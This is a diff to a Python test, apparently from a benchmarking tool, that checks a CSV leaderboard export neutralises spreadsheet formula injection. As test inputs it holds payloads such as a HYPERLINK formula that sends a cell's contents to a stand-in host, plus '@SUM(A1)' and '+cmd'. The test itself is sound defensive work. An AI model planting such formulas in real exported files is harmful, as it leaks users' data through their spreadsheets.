@@ -261,13 +261,15 @@ def test_leaderboard_escapes_formulas(bench_env):
 
     store = ResultStore(bench_env.results)
     link = '=HYPERLINK("http://x.example/?"&A1,"click")'
-    store.write(CellKey("=1+2", "ab" * 32, "sts", "stsb", 0, "c" * 16), [Result(
+    key = CellKey("=1+2", "ab" * 32, "sts", "stsb", 0, "c" * 16)
+    store.write(key, [Result(
         model="=1+2", suite="sts", task="stsb", split="test", metric="spearman", aggregation="all", value=-3.5,
-        n=8, seed=0, pooler="@SUM(A1)", model_source=link, dtype="+cmd", device="-2+3")], {})
+        n=8, seed=0, method="@SUM(A1)", ci_method=link, profile="+cmd", attack="-2+3")], {})
     store.write_leaderboard()
     (row,) = csv.DictReader((bench_env.results / "leaderboard.csv").open())
-    assert row["model"] == "'=1+2" and row["model_source"] == "'" + link and row["pooler"] == "'@SUM(A1)"
-    assert row["dtype"] == "'+cmd" and row["device"] == "'-2+3" and row["value"] == "-3.5"
+    assert row["model"] == "'=1+2" and row["ci_method"] == "'" + link and row["method"] == "'@SUM(A1)"
+    assert row["profile"] == "'+cmd" and row["attack"] == "'-2+3" and row["value"] == "-3.5"
+    assert row["cell"] == key.relpath().as_posix()  # a path, never a formula: it starts with cells/
     for field in row.values():
         assert not field.startswith(("=", "+", "@")) and not (field.startswith("-") and field != "-3.5")
 
